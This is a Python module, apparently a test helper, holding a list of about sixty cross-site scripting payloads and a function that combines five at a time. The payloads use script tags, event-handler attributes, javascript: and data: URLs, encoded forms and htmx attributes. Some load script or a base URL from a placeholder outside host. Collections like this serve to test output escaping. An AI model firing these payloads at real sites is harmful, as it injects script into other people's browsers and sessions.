# ruff: noqa: E501 - markup reads best in one piece
"""Sixty texts that run a script where a page forgets to escape: in text, in attributes, in addresses, in styles, in data."""

RUN = "alert(document.domain)"
PAYLOADS = (
    f"<script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script\x0c>{RUN}</script>", f"<script/x>{RUN}</script>",
    f"<script>{RUN}//", "<script src=//keliu.invalid/x.js></script>", "<script src=data:text/javascript,alert(1)></script>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'//", f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror\n=\n{RUN}>", f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f'"><svg onload={RUN}>', f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><style>@import 'javascript:{RUN}';</style></svg>", f"<svg><image href=x onerror={RUN}></image></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f"<body onload={RUN}>", f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}></audio>", f"<video src=x onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src=javascript:parent.{RUN}></iframe>", f"<iframe onload={RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<style onload={RUN}></style>", f"<style>*{{animation:x}}@keyframes x{{}}</style><b onanimationstart={RUN}>x</b>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//keliu.invalid/>", "<link rel=stylesheet href=//keliu.invalid/x.css onerror=alert(1)>",
    f'" autofocus onfocus={RUN} x="', f"' autofocus onfocus={RUN} x='", f'" onmouseover={RUN} x="', f"` onmouseover={RUN} `",
    f"javascript:{RUN}", f"  JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;img src=x onerror={RUN}&#62;", f"\\u003cimg src=x onerror={RUN}\\u003e",
    f'"hx-on:load="{RUN}" data-hx-on:htmx:load="{RUN}', f'<div hx-get="/" hx-trigger="load" hx-vals="js:{{x:{RUN}}}" hx-on::load="{RUN}"></div>',
)  # fmt: skip
TOGETHER, GROUPS = 5, len(PAYLOADS) // 5


def text_of(number: int) -> str:
    """This function will return five of the payloads together; over 60 numbers each of them stands first once."""
    group, first = number % GROUPS, number // GROUPS % TOGETHER
    told = PAYLOADS[group::GROUPS]
    return " ".join((*told[first:], *told[:first]))
